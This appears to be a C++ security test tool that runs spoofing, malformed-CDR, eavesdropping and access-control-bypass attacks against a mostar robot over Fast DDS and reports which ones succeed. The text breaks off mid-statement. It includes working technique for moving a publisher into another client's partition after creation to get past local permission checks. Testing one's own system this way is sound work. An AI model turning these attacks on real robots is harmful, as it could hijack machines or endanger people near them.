// attacker: what someone on the robot's network can do to it with a stock DDS stack. A raw Fast
// DDS DomainParticipant (UDPv4 only, the generated IDL types and hand-made CDR), no mostar client
// code. It runs every attack once against a running robot_server and prints one line per attack:
//
//   ATTACK name=NAME outcome=blocked|open|error evidence="key=value ..."
//
// then "ROBOT alive=yes|no health_age_s=S". An attack is "open" when the robot did what the
// attacker wanted (it published it, or its simulated motors moved, as odometry shows).
//
// Partitions: the robot reads commands, e-stops, control requests and clock pings of each client
// of its role table in that client's DDS partition "mostar.client.<id>" (and clock pings of
// other ids in "mostar.client.*"), so whatever acts "as X" writes in X's partition.
//
// Credentials: a participant without any certificate always attacks; it writes as X in X's
// partition. With --pki DIR (a PKI made by deploy/security/make_pki.sh) up to three insiders
// attack too: --pilot-cert (a pilot certificate of the role table, weaker than the victim),
// --observer-cert (an observer certificate) and --relay-cert (a relay certificate, an OBSERVER of
// the role table, whose permissions publish only the e-stop in its own partition besides the
// sensor topics). Each insider announces its certificate in USER_DATA
// as mostar participants do ("mostar.cert.der.1:" then the DER from NAME.cert.der), so that the
// robot knows who it is. An insider acts as X twice: in its own partition with sender_id X, and
// in X's partition. Its local access control refuses a writer in X's partition, so it makes the
// writer in its own partition and then moves the publisher to X's partition: the robot sees a
// writer announced in X's partition, as from a modified DDS stack. A topic its permissions refuse
// even in its own partition gets no writer at all: that route is blocked before the wire (the
// evidence says "no_writer"). Without --pki, --pilot-cert, --observer-cert and --relay-cert only
// name the ids the participant without a certificate plays in the insider attacks. The robot's
// state is watched by a separate witness participant (--witness-cert under --pki: a legitimate
// observer).
//
// Transport: UDPv4 with default discovery; --dds-profile FILE takes transports and discovery
// from the participant profile --dds-profile-name (default "operator") of a Fast DDS XML file
// without DDS Security (e.g. deploy/dds/overlay.xml or wan.xml with the robot's address), as a
// console on that deployment would have them; the security properties are still this tool's.
// On a TCPv4 profile whose client transport has no listening port (wan.xml's operator) each
// participant of this process listens on a port of its own (--tcp-port-base, default 15200
// up): Fast DDS 2.9 otherwise answers all of them on one connection (Peer::OwnTcpPort).
//
// Expects a live pilot (--victim) holding the lease at start, sending idle commands
// (enable=false) and clock pings; --claim is a stronger pilot id of the role table that no
// participant has a certificate for.
#include <fastdds/rtps/transport/TCPv4TransportDescriptor.h>
#include <fastdds/rtps/transport/UDPv4TransportDescriptor.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <csignal>
#include <cstring>
#include <exception>
#include <fastdds/dds/domain/DomainParticipant.hpp>
#include <fastdds/dds/domain/DomainParticipantFactory.hpp>
#include <fastdds/dds/domain/DomainParticipantListener.hpp>
#include <fastdds/dds/publisher/DataWriter.hpp>
#include <fastdds/dds/publisher/Publisher.hpp>
#include <fastdds/dds/subscriber/DataReader.hpp>
#include <fastdds/dds/subscriber/DataReaderListener.hpp>
#include <fastdds/dds/subscriber/SampleInfo.hpp>
#include <fastdds/dds/subscriber/Subscriber.hpp>
#include <fastdds/dds/topic/TopicDataType.hpp>
#include <fstream>
#include <functional>
#include <iomanip>
#include <iostream>
#include <iterator>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "mostar_msgsPubSubTypes.h"
#include "ros2_msgsPubSubTypes.h"

namespace attacker {
namespace {

namespace fdds = eprosima::fastdds::dds;
namespace rtps = eprosima::fastrtps::rtps;
namespace msg = mostar_msgs::msg::dds_;
using Clock = std::chrono::steady_clock;
using namespace std::chrono_literals;

// Topic names and type names as robot_server publishes them (docs/architecture.md, Topics).
constexpr const char* kCameraLeft = "rt/mostar/camera/left/image_raw/compressed";
constexpr const char* kScan = "rt/mostar/scan";
constexpr const char* kOdometry = "rt/mostar/odom";
constexpr const char* kCommand = "rt/mostar/cmd_vel";
constexpr const char* kEstop = "rt/mostar/estop";
constexpr const char* kRequest = "rt/mostar/control/request";
constexpr const char* kLease = "rt/mostar/control/lease";
constexpr const char* kHealth = "rt/mostar/health";
constexpr const char* kPing = "rt/mostar/clock/ping";
constexpr const char* kPong = "rt/mostar/clock/pong";
constexpr const char* kCommandType = "mostar_msgs::msg::dds_::VelocityCommand_";
constexpr const char* kEstopType = "mostar_msgs::msg::dds_::EmergencyStop_";
constexpr const char* kRequestType = "mostar_msgs::msg::dds_::ControlRequest_";
constexpr const char* kPingType = "mostar_msgs::msg::dds_::ClockProbe_";
// The partition a client writes those four topics in (common/identity/sender_partition.h).
constexpr const char* kPartitionPrefix = "mostar.client.";
constexpr const char* kAnyClientPartition = "mostar.client.*";
std::string PartitionOf(const std::string& client_id) { return kPartitionPrefix + client_id; }

// Odometry faster than this (m/s) means the robot moved; the attacks drive at 0.15-0.3 m/s.
constexpr double kMovedMps = 0.08;

// Wall clock, nanoseconds since the epoch (the robot's stamps are on the same clock here).
int64_t WallNowNs() {
  return std::chrono::duration_cast<std::chrono::nanoseconds>(
             std::chrono::system_clock::now().time_since_epoch())
      .count();
}
builtin_interfaces::msg::dds_::Time_ Stamp(int64_t ns) {
  builtin_interfaces::msg::dds_::Time_ t;
  t.sec(static_cast<int32_t>(ns / 1'000'000'000));
  t.nanosec(static_cast<uint32_t>(ns % 1'000'000'000));
  return t;
}
int64_t Nanos(const builtin_interfaces::msg::dds_::Time_& t) {
  return int64_t{t.sec()} * 1'000'000'000 + t.nanosec();
}

// CDR (little endian) by hand: samples the generated types cannot express (1 MB strings,
// truncated or lying lengths). Alignment counts from after the 4-byte encapsulation header.
class CdrBytes {
 public:
  CdrBytes() : bytes_{0x00, 0x01, 0x00, 0x00} {}
  CdrBytes& U32(uint32_t v) { return Align(4).Raw(&v, 4); }
  CdrBytes& I32(int32_t v) { return Align(4).Raw(&v, 4); }
  CdrBytes& U64(uint64_t v) { return Align(8).Raw(&v, 8); }
  CdrBytes& F64(double v) { return Align(8).Raw(&v, 8); }
  CdrBytes& Bool(bool v) {
    bytes_.push_back(v ? 1 : 0);
    return *this;
  }
  CdrBytes& Time(int64_t ns) {
    return I32(static_cast<int32_t>(ns / 1'000'000'000))
        .U32(static_cast<uint32_t>(ns % 1'000'000'000));
  }
  CdrBytes& String(const std::string& s) {
    U32(static_cast<uint32_t>(s.size() + 1));
    bytes_.insert(bytes_.end(), s.begin(), s.end());
    bytes_.push_back(0);
    return *this;
  }
  std::vector<uint8_t> Take() { return std::move(bytes_); }

 private:
  CdrBytes& Align(size_t n) {
    while ((bytes_.size() - 4) % n != 0) bytes_.push_back(0);
    return *this;
  }
  CdrBytes& Raw(const void* p, size_t n) {
    const auto* b = static_cast<const uint8_t*>(p);
    bytes_.insert(bytes_.end(), b, b + n);
    return *this;
  }
  std::vector<uint8_t> bytes_;
};

// A type that puts whatever bytes it is given on the wire under another type's name.
class RawType : public fdds::TopicDataType {
 public:
  RawType(const std::string& name, uint32_t max_bytes) {
    setName(name.c_str());
    m_typeSize = max_bytes;
    m_isGetKeyDefined = false;
  }
  bool serialize(void* data, rtps::SerializedPayload_t* payload) override {
    const auto* bytes = static_cast<std::vector<uint8_t>*>(data);
    if (bytes->size() > payload->max_size) return false;
    std::memcpy(payload->data, bytes->data(), bytes->size());
    payload->length = static_cast<uint32_t>(bytes->size());
    payload->encapsulation = bytes->size() > 1 && (*bytes)[1] == 1 ? CDR_LE : CDR_BE;
    return true;
  }
  bool deserialize(rtps::SerializedPayload_t*, void*) override { return false; }
  std::function<uint32_t()> getSerializedSizeProvider(void* data) override {
    return
        [data] { return static_cast<uint32_t>(static_cast<std::vector<uint8_t>*>(data)->size()); };
  }
  void* createData() override { return new std::vector<uint8_t>(); }
  void deleteData(void* data) override { delete static_cast<std::vector<uint8_t>*>(data); }
  bool getKey(void*, rtps::InstanceHandle_t*, bool) override { return false; }
};

// The generated type, refusing (instead of throwing through Fast DDS) samples it cannot
// decode: this process reads topics its own raw writers write garbage to.
template <class PubSub>
class SafeType : public PubSub {
 public:
  bool deserialize(rtps::SerializedPayload_t* payload, void* data) override {
    try {
      return PubSub::deserialize(payload, data);
    } catch (const std::exception&) {
      return false;
    }
  }
};

template <class Sample>
class TakeListener : public fdds::DataReaderListener {
 public:
  explicit TakeListener(std::function<void(const Sample&)> on_sample)
      : on_sample_(std::move(on_sample)) {}
  void on_data_available(fdds::DataReader* reader) override {
    Sample sample;
    fdds::SampleInfo info;
    while (reader->take_next_sample(&sample, &info) ==
           eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
      if (info.valid_data) on_sample_(sample);
    }
  }

 private:
  std::function<void(const Sample&)> on_sample_;
};

// QoS the robot's readers and writers accept (docs/architecture.md, Topics).
fdds::DataWriterQos CommandWriterQos() {
  fdds::DataWriterQos qos = fdds::DATAWRITER_QOS_DEFAULT;
  qos.reliability().kind = fdds::RELIABLE_RELIABILITY_QOS;
  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
  qos.history().depth = 8;  // several ids per tick: none replaces another before it is sent
  qos.ownership().kind = fdds::SHARED_OWNERSHIP_QOS;
  qos.deadline().period = eprosima::fastrtps::Duration_t(0.2);
  qos.liveliness().kind = fdds::MANUAL_BY_TOPIC_LIVELINESS_QOS;
  qos.liveliness().lease_duration = eprosima::fastrtps::Duration_t(0.5);
  qos.liveliness().announcement_period = eprosima::fastrtps::Duration_t(0.15);
  qos.publish_mode().kind = fdds::ASYNCHRONOUS_PUBLISH_MODE;
  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
  return qos;
}
fdds::DataWriterQos ControlWriterQos() {
  fdds::DataWriterQos qos = fdds::DATAWRITER_QOS_DEFAULT;
  qos.reliability().kind = fdds::RELIABLE_RELIABILITY_QOS;
  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
  qos.history().depth = 10;
  qos.publish_mode().kind = fdds::ASYNCHRONOUS_PUBLISH_MODE;
  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
  return qos;
}
fdds::DataReaderQos ReaderQos(bool reliable) {
  fdds::DataReaderQos qos = fdds::DATAREADER_QOS_DEFAULT;
  qos.reliability().kind =
      reliable ? fdds::RELIABLE_RELIABILITY_QOS : fdds::BEST_EFFORT_RELIABILITY_QOS;
  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
  qos.history().depth = 5;
  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
  return qos;
}

// `qos` in the one partition `partition`: the Fast DDS 2.9 endpoint property mostar sets.
template <class Qos>
Qos InPartition(Qos qos, const std::string& partition) {
  qos.properties().properties().emplace_back("partitions", partition);
  return qos;
}

std::vector<uint8_t> ReadFileBytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::vector<uint8_t>(std::istreambuf_iterator<char>(in), {});
}

// Prints on stderr, with the seconds since this process started, what one participant
// discovers and authenticates: the evidence when the witness hears nothing from the robot.
class DiscoveryLog : public fdds::DomainParticipantListener {
 public:
  explicit DiscoveryLog(std::string label) : label_(std::move(label)) {}
  void on_participant_discovery(fdds::DomainParticipant*,
                                rtps::ParticipantDiscoveryInfo&& info) override {
    static const char* const kStatus[] = {"discovered", "changed", "removed", "dropped"};
    const int status = static_cast<int>(info.status);
    Print(std::string(status >= 0 && status < 4 ? kStatus[status] : "?") + " '" +
              info.info.m_participantName.to_string() + "'",
          info.info.m_guid);
  }
#if HAVE_SECURITY
  void onParticipantAuthentication(fdds::DomainParticipant*,
                                   rtps::ParticipantAuthenticationInfo&& info) override {
    Print(info.status == rtps::ParticipantAuthenticationInfo::AUTHORIZED_PARTICIPANT
              ? "authorized"
              : "unauthorized",
          info.guid);
  }
#endif

 private:
  void Print(const std::string& what, const rtps::GUID_t& guid) {
    static const Clock::time_point start = Clock::now();
    std::ostringstream line;
    line << std::fixed << std::setprecision(3)
         << "attacker: " << std::chrono::duration<double>(Clock::now() - start).count() << " s "
         << label_ << ": " << what << " " << guid.guidPrefix << "\n";
    std::cerr << line.str();
  }
  std::string label_;
};

// One participant with its topics, writers and readers; everything is deleted with it.
class Peer {
 public:
  // `cert` empty: no DDS Security at all. Otherwise the files NAME.* of `pki`; `announce`
  // puts the certificate into USER_DATA the way mostar participants do. `log` (may be null,
  // outlives the peer) hears the participant's discovery and authentication only: its status
  // mask is none, else Fast DDS would hand the readers' data to its on_data_on_readers.
  static std::unique_ptr<Peer> Create(int domain, const std::string& label, const std::string& pki,
                                      const std::string& cert, bool announce,
                                      fdds::DomainParticipantListener* log = nullptr) {
    fdds::DomainParticipantQos qos = fdds::PARTICIPANT_QOS_DEFAULT;
    if (!profile_name_.empty()) {
      if (fdds::DomainParticipantFactory::get_instance()->get_participant_qos_from_profile(
              profile_name_, qos) != eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
        return nullptr;
      }
      OwnTcpPort(qos);
    } else {
      qos.transport().use_builtin_transports = false;
      auto udp = std::make_shared<eprosima::fastdds::rtps::UDPv4TransportDescriptor>();
      qos.transport().user_transports.push_back(udp);
    }
    qos.name(label);
    if (!cert.empty()) {
      const std::string f = "file://" + pki + "/";
      auto& p = qos.properties().properties();
      p.emplace_back("dds.sec.auth.plugin", "builtin.PKI-DH");
      p.emplace_back("dds.sec.auth.builtin.PKI-DH.identity_ca", f + "identity_ca.cert.pem");
      p.emplace_back("dds.sec.auth.builtin.PKI-DH.identity_certificate", f + cert + ".cert.pem");
      p.emplace_back("dds.sec.auth.builtin.PKI-DH.private_key", f + cert + ".key.pem");
      p.emplace_back("dds.sec.access.plugin", "builtin.Access-Permissions");
      p.emplace_back("dds.sec.access.builtin.Access-Permissions.permissions_ca",
                     f + "permissions_ca.cert.pem");
      p.emplace_back("dds.sec.access.builtin.Access-Permissions.governance", f + "governance.p7s");
      p.emplace_back("dds.sec.access.builtin.Access-Permissions.permissions",
                     f + cert + ".permissions.p7s");
      p.emplace_back("dds.sec.crypto.plugin", "builtin.AES-GCM-GMAC");
      if (announce) {
        const std::string tag = "mostar.cert.der.1:";
        std::vector<uint8_t> data(tag.begin(), tag.end());
        const std::vector<uint8_t> der = ReadFileBytes(pki + "/" + cert + ".cert.der");
        data.insert(data.end(), der.begin(), der.end());
        qos.user_data().data_vec(data);
      }
    }
    auto* participant = fdds::DomainParticipantFactory::get_instance()->create_participant(
        domain, qos, log, fdds::StatusMask::none());
    if (participant == nullptr) return nullptr;
    return std::unique_ptr<Peer>(new Peer(participant, label, cert));
  }
  // Every participant made after this takes transports and discovery from participant profile
  // `name` of the Fast DDS XML file `file`. False when the file or the profile cannot be read.
  static bool UseProfile(const std::string& file, const std::string& name) {
    auto* factory = fdds::DomainParticipantFactory::get_instance();
    fdds::DomainParticipantQos probe;
    if (factory->load_XML_profiles_file(file) !=
            eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK ||
        factory->get_participant_qos_from_profile(name, probe) !=
            eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
      return false;
    }
    profile_name_ = name;
    return true;
  }
  // From `base` on (0: never), each participant made after this whose profile has a TCPv4
  // transport without a listening port gets a copy of it listening on a port of its own.
  static void UseTcpPortsFrom(int base) { next_tcp_port_ = base; }
  ~Peer() {
    participant_->delete_contained_entities();
    fdds::DomainParticipantFactory::get_instance()->delete_participant(participant_);
  }
  Peer(const Peer&) = delete;
  Peer& operator=(const Peer&) = delete;

  const std::string& label() const { return label_; }
  const std::string& cert() const { return cert_; }

  // nullptr when refused (permissions) or the topic cannot be made. `publisher` null: the
  // peer's default publisher (no partition of its own).
  fdds::DataWriter* Writer(const char* topic, fdds::TypeSupport type,
                           const fdds::DataWriterQos& qos, fdds::Publisher* publisher = nullptr) {
    fdds::Topic* t = TopicOf(topic, type);
    if (t == nullptr) return nullptr;
    return (publisher == nullptr ? publisher_ : publisher)->create_datawriter(t, qos);
  }
  template <class PubSub>
  fdds::DataWriter* Writer(const char* topic, const fdds::DataWriterQos& qos,
                           fdds::Publisher* publisher = nullptr) {
    return Writer(topic, fdds::TypeSupport(new PubSub()), qos, publisher);
  }
  // A publisher of its own in partition `partition`.
  fdds::Publisher* PublisherIn(const std::string& partition) {
    fdds::PublisherQos qos = fdds::PUBLISHER_QOS_DEFAULT;
    qos.partition().push_back(partition.c_str());
    return participant_->create_publisher(qos);
  }
  // Moves `publisher` and its writers to partition `partition`. Fast DDS checks a local
  // writer's partitions against its own permissions only when the writer is created; the new
  // partition is announced to the others as it is.
  static bool MovePublisher(fdds::Publisher* publisher, const std::string& partition) {
    fdds::PublisherQos qos = publisher->get_qos();
    qos.partition().clear();
    qos.partition().push_back(partition.c_str());
    return publisher->set_qos(qos) == eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK;
  }
  // `partition` empty: the default partition.
  template <class PubSub>
  bool Read(const char* topic, bool reliable,
            std::function<void(const typename PubSub::type&)> on_sample,
            const std::string& partition = "") {
    fdds::Topic* t = TopicOf(topic, fdds::TypeSupport(new SafeType<PubSub>()));
    if (t == nullptr) return false;
    auto listener = std::make_unique<TakeListener<typename PubSub::type>>(std::move(on_sample));
    const fdds::DataReaderQos qos =
        partition.empty() ? ReaderQos(reliable) : InPartition(ReaderQos(reliable), partition);
    fdds::DataReader* reader = subscriber_->create_datareader(t, qos, listener.get());
    if (reader == nullptr) return false;
    readers_.push_back(reader);
    listeners_.push_back(std::move(listener));
    return true;
  }
  // How many writers the reader of `topic` matched; -1 when this peer does not read it.
  int MatchedWriters(const std::string& topic) const {
    for (fdds::DataReader* reader : readers_) {
      if (reader->get_topicdescription()->get_name() != topic) continue;
      fdds::SubscriptionMatchedStatus status;
      reader->get_subscription_matched_status(status);
      return status.current_count;
    }
    return -1;
  }
  // Stops reading (before this process writes samples its own readers cannot decode).
  void DeleteReaders() {
    for (fdds::DataReader* reader : readers_) {
      reader->set_listener(nullptr);
      subscriber_->delete_datareader(reader);
    }
    readers_.clear();
  }
  void Delete(fdds::DataWriter* writer) {
    if (writer != nullptr) publisher_->delete_datawriter(writer);
  }

 private:
  Peer(fdds::DomainParticipant* participant, std::string label, std::string cert)
      : participant_(participant), label_(std::move(label)), cert_(std::move(cert)) {
    publisher_ = participant_->create_publisher(fdds::PUBLISHER_QOS_DEFAULT);
    subscriber_ = participant_->create_subscriber(fdds::SUBSCRIBER_QOS_DEFAULT);
  }
  fdds::Topic* TopicOf(const char* name, fdds::TypeSupport type) {
    auto it = topics_.find(name);
    if (it != topics_.end()) return it->second;
    const std::string type_name = type.get_type_name();
    if (participant_->find_type(type_name).empty() &&
        type.register_type(participant_) != eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
      return nullptr;
    }
    fdds::Topic* topic = participant_->create_topic(name, type_name, fdds::TOPIC_QOS_DEFAULT);
    if (topic != nullptr) topics_[name] = topic;
    return topic;
  }

  // Fast DDS 2.9 gives a TCP client without a listening port the process id as its physical
  // port: in the locators it announces and in its bind request to the server. The server keeps
  // one connection per physical locator, the last one bound, so every such participant of this
  // process but one is answered on another participant's connection, whose transport drops
  // what is not for its own logical ports. A listening port of its own makes each participant's
  // physical locator, and so its connection at the server, distinct.
  static void OwnTcpPort(fdds::DomainParticipantQos& qos) {
    if (next_tcp_port_ == 0) return;
    for (auto& transport : qos.transport().user_transports) {
      auto tcp =
          std::dynamic_pointer_cast<eprosima::fastdds::rtps::TCPv4TransportDescriptor>(transport);
      if (!tcp || !tcp->listening_ports.empty()) continue;
      auto own = std::make_shared<eprosima::fastdds::rtps::TCPv4TransportDescriptor>(*tcp);
      own->listening_ports = {static_cast<uint16_t>(next_tcp_port_++)};
      transport = own;
    }
  }

  static inline std::string profile_name_;  // empty: UDPv4, default discovery
  static inline int next_tcp_port_ = 0;

  fdds::DomainParticipant* participant_;
  std::string label_;
  std::string cert_;
  fdds::Publisher* publisher_ = nullptr;
  fdds::Subscriber* subscriber_ = nullptr;
  std::map<std::string, fdds::Topic*> topics_;
  std::vector<fdds::DataReader*> readers_;
  std::vector<std::unique_ptr<fdds::DataReaderListener>> listeners_;
};

// What the witness sees of the robot.
class Witness {
 public:
  bool Start(Peer* peer) {
    return peer->Read<msg::RobotHealth_PubSubType>(
               kHealth, false, [this](const msg::RobotHealth_& h) { OnHealth(h); }) &&
           peer->Read<msg::ControlLease_PubSubType>(kLease, false,
                                                    [this](const msg::ControlLease_& l) {
                                                      std::lock_guard<std::mutex> lock(mutex_);
                                                      holder_ = l.holder_id().to_string();
                                                      lease_sequence_ = l.lease_sequence();
                                                      holders_seen_.push_back(holder_);
                                                    }) &&
           peer->Read<nav_msgs::msg::dds_::Odometry_PubSubType>(
               kOdometry, false, [this](const nav_msgs::msg::dds_::Odometry_& o) {
                 std::lock_guard<std::mutex> lock(mutex_);
                 const double v = o.twist().twist().linear().x();
                 last_linear_ = v;
                 max_linear_ = std::max(max_linear_, v);
                 min_linear_ = std::min(min_linear_, v);
                 ++odometry_;
               });
  }
  // Forgets the motion and the holders seen so far.
  void ResetWindow() {
    std::lock_guard<std::mutex> lock(mutex_);
    max_linear_ = min_linear_ = 0;
    holders_seen_.clear();
  }
  // Waits (up to 5 s) until the robot stands still, then forgets the motion seen so far.
  void ResetWindowWhenStill() {
    const auto deadline = Clock::now() + 5s;
    while (std::abs(Locked(last_linear_)) > 0.005 && Clock::now() < deadline) {
      std::this_thread::sleep_for(50ms);
    }
    std::this_thread::sleep_for(200ms);
    ResetWindow();
  }
  double MaxLinear() const { return Locked(max_linear_); }
  double MinLinear() const { return Locked(min_linear_); }
  std::string Holder() const { return Locked(holder_); }
  uint64_t LeaseSequence() const { return Locked(lease_sequence_); }
  bool EverHeld(const std::string& id) const {
    std::lock_guard<std::mutex> lock(mutex_);
    return std::find(holders_seen_.begin(), holders_seen_.end(), id) != holders_seen_.end();
  }
  // The holders seen since the window was reset, other than `id` ("none" for a free lease).
  std::vector<std::string> HoldersOtherThan(const std::string& id) const {
    std::lock_guard<std::mutex> lock(mutex_);
    std::vector<std::string> out;
    for (const std::string& h : holders_seen_) {
      const std::string name = h.empty() ? "none" : h;
      if (h != id && std::find(out.begin(), out.end(), name) == out.end()) out.push_back(name);
    }
    return out;
  }
  bool Estop() const { return Locked(estop_); }
  int Healths() const { return Locked(healths_); }
  // Seconds since the last health sample arrived; a large number when none did.
  double HealthAgeS() const {
    std::lock_guard<std::mutex> lock(mutex_);
    if (healths_ == 0) return 1e9;
    return std::chrono::duration<double>(Clock::now() - last_health_).count();
  }
  // Counter `name` of health device `device`; -1 when absent.
  int64_t Counter(const std::string& device, const std::string& name) const {
    std::lock_guard<std::mutex> lock(mutex_);
    auto it = counters_.find(device + "." + name);
    return it == counters_.end() ? -1 : it->second;
  }
  // Waits until two health samples arrived after now, so counters include what was sent.
  void WaitFreshHealth() const {
    const int start = Healths();
    const auto deadline = Clock::now() + 5s;
    while (Healths() < start + 2 && Clock::now() < deadline) std::this_thread::sleep_for(50ms);
  }

 private:
  template <class T>
  T Locked(const T& value) const {
    std::lock_guard<std::mutex> lock(mutex_);
    return value;
  }
  void OnHealth(const msg::RobotHealth_& h) {
    std::lock_guard<std::mutex> lock(mutex_);
    ++healths_;
    last_health_ = Clock::now();
    estop_ = h.estop_engaged();
    for (const auto& device : h.devices()) {
      for (const auto& counter : device.counters()) {
        counters_[device.name().to_string() + "." + counter.name().to_string()] =
            static_cast<int64_t>(counter.value());
      }
    }
  }

  mutable std::mutex mutex_;
  double last_linear_ = 0;
  double max_linear_ = 0;
  double min_linear_ = 0;
  int odometry_ = 0;
  std::string holder_;
  uint64_t lease_sequence_ = 0;
  std::vector<std::string> holders_seen_;
  bool estop_ = false;
  int healths_ = 0;
  Clock::time_point last_health_;
  std::map<std::string, int64_t> counters_;
};

// One attacker's writers of the four topics the robot reads, in the partition of client `id`
// (nullptr where refused). `how`: "claimed" (the participant without a certificate: nothing
// checks it), "own" (an insider in its own partition), "moved" (an insider's writers made in its
// own partition, then moved to `id`'s: its local access control refused them there), "direct"
// (an insider's local access control let it create them in `id`'s partition).
struct WriterSet {
  std::string id;
  std::string how;
  fdds::DataWriter* command = nullptr;
  fdds::DataWriter* request = nullptr;
  fdds::DataWriter* estop = nullptr;
  fdds::DataWriter* ping = nullptr;

  // "alice[moved]", with the topics that have no writer: "alice[moved;no cmd_vel,request]".
  std::string Text() const {
    std::string refused;
    for (const auto& [name, writer] :
         {std::pair<const char*, fdds::DataWriter*>{"cmd_vel", command},
          {"request", request},
          {"estop", estop},
          {"ping", ping}}) {
      if (writer == nullptr) refused += (refused.empty() ? "" : ",") + std::string(name);
    }
    return id + "[" + how + (refused.empty() ? "" : ";no " + refused) + "]";
  }
};

// An attacking participant and its writers on the robot's input topics.
struct Attacker {
  std::unique_ptr<Peer> peer;             // typed samples
  std::unique_ptr<Peer> raw_peer;         // hand-made CDR under the same type names
  std::string self;                       // its certificate's CN; empty without a certificate
  std::string primary;                    // the partition of its raw writers and floods
  std::map<std::string, WriterSet> sets;  // by the client id of the partition
  std::map<std::string, fdds::DataWriter*> raw;  // by topic, in `primary`'s partition

  const WriterSet* Set(const std::string& id) const {
    auto it = sets.find(id);
    return it == sets.end() ? nullptr : &it->second;
  }
};

// A way to write "as `sender`": the writers of one partition and the sender_id to put in.
struct Route {
  const Attacker* attacker;
  const WriterSet* set;
  std::string sender;
};

size_t Matched(fdds::DataWriter* writer) {
  if (writer == nullptr) return 0;
  fdds::PublicationMatchedStatus status;
  writer->get_publication_matched_status(status);
  return static_cast<size_t>(status.current_count);
}

int64_t RssKb(int pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("VmRSS:", 0) == 0) return std::stoll(line.substr(6));
  }
  return -1;
}
bool Alive(int pid) { return pid > 0 && kill(pid, 0) == 0; }

class Suite {
 public:
  struct Options {
    int domain = 0;
    std::string pki;
    std::string pilot_cert;
    std::string observer_cert;
    std::string relay_cert;
    std::string witness_cert;
    std::string dds_profile;
    std::string dds_profile_name = "operator";
    int tcp_port_base = 15200;
    std::string victim = "alice";
    std::string claim = "bob";
    int robot_pid = 0;
  };

  explicit Suite(Options options) : options_(std::move(options)) {}

  int Run() {
    const bool secure = !options_.pki.empty();
    if (!options_.dds_profile.empty() &&
        !Peer::UseProfile(options_.dds_profile, options_.dds_profile_name)) {
      std::cerr << "attacker: no participant profile '" << options_.dds_profile_name << "' in "
                << options_.dds_profile << "\n";
      return 1;
    }
    Peer::UseTcpPortsFrom(options_.tcp_port_base);
    witness_peer_ = Peer::Create(options_.domain, "witness", options_.pki,
                                 secure ? options_.witness_cert : "", false, &witness_log_);
    if (!witness_peer_ || !witness_.Start(witness_peer_.get())) {
      std::cerr << "attacker: the witness participant could not be made\n";
      return 1;
    }
    // Every credential attacks: nobody, then the insiders.
    if (!AddAttacker("anonymous", "")) return 1;
    if (secure && !options_.pilot_cert.empty() && !AddAttacker("pilot", options_.pilot_cert)) {
      return 1;
    }
    if (secure && !options_.observer_cert.empty() &&
        !AddAttacker("observer", options_.observer_cert)) {
      return 1;
    }
    if (secure && !options_.relay_cert.empty() && !AddAttacker("relay", options_.relay_cert)) {
      return 1;
    }
    // The eavesdropper: the participant without a certificate reads what it can.
    Peer* anon = attackers_.front().peer.get();
    anon->Read<sensor_msgs::msg::dds_::CompressedImage_PubSubType>(
        kCameraLeft, true, [this](const auto&) { ++heard_video_; });
    anon->Read<sensor_msgs::msg::dds_::LaserScan_PubSubType>(
        kScan, false, [this](const auto&) { ++heard_scan_; });
    anon->Read<msg::RobotHealth_PubSubType>(kHealth, false,
                                            [this](const auto&) { ++heard_health_; });
    anon->Read<nav_msgs::msg::dds_::Odometry_PubSubType>(kOdometry, false,
                                                         [this](const auto&) { ++heard_odom_; });
    // Pilots write commands in their own partitions: the pattern matches them all.
    anon->Read<msg::VelocityCommand_PubSubType>(
        kCommand, false,
        [this](const msg::VelocityCommand_& c) {
          std::lock_guard<std::mutex> lock(mutex_);
          ++heard_commands_;
          if (c.sender_id().to_string() == options_.victim) {
            captured_ = c;
          }
        },
        kAnyClientPartition);
    anon->Read<msg::ClockProbe_PubSubType>(kPong, false, [this](const msg::ClockProbe_& p) {
      std::lock_guard<std::mutex> lock(mutex_);
      pongs_[p.sequence_number()] = p;
    });

    // A Fast DDS 2.9 TCP client participant whose connection delivers nothing from the start
    // (docs/networking.md) is made again, as an operator would reconnect: twice at most.
    for (int attempt = 0; attempt < 3 && witness_.Healths() == 0; ++attempt) {
      if (attempt > 0) {
        std::cerr << "attacker: the witness heard nothing in 15 s; it joins again\n";
        witness_peer_.reset();
        witness_peer_ = Peer::Create(options_.domain, "witness", options_.pki,
                                     secure ? options_.witness_cert : "", false, &witness_log_);
        if (!witness_peer_ || !witness_.Start(witness_peer_.get())) return 1;
      }
      const auto deadline = Clock::now() + 15s;
      while (witness_.Healths() == 0 && Clock::now() < deadline) {
        std::this_thread::sleep_for(100ms);
      }
    }
    if (witness_.Healths() == 0) {
      std::cerr << "attacker: the witness hears no health from the robot (its health reader "
                << "matched " << witness_peer_->MatchedWriters(kHealth) << " writers, its lease "
                << "reader " << witness_peer_->MatchedWriters(kLease) << ")\n";
      return 1;
    }
    // The victim (identity_actor) joins again when the robot's readers do not match within
    // 15 s, twice at most (Fast DDS 2.9.1's authentication race, docs/networking.md).
    if (!WaitForHolder(options_.victim, 50s)) {
      std::cerr << "attacker: the victim " << options_.victim << " does not hold the lease\n";
      return 1;
    }
    WaitMatchedWriters(8s);
    RejoinUnmatchedInsiders();
    // Writers as seen from here, matched/known per topic (cmd_vel, request, estop, ping).
    std::cout << "attacker: witness ready; credentials:";
    for (const Attacker& a : attackers_) {
      std::cout << " " << a.peer->label() << "(";
      bool first = true;
      for (const auto& [id, set] : a.sets) {
        std::cout << (first ? "" : " ") << set.Text() << "=" << Matched(set.command) << "/"
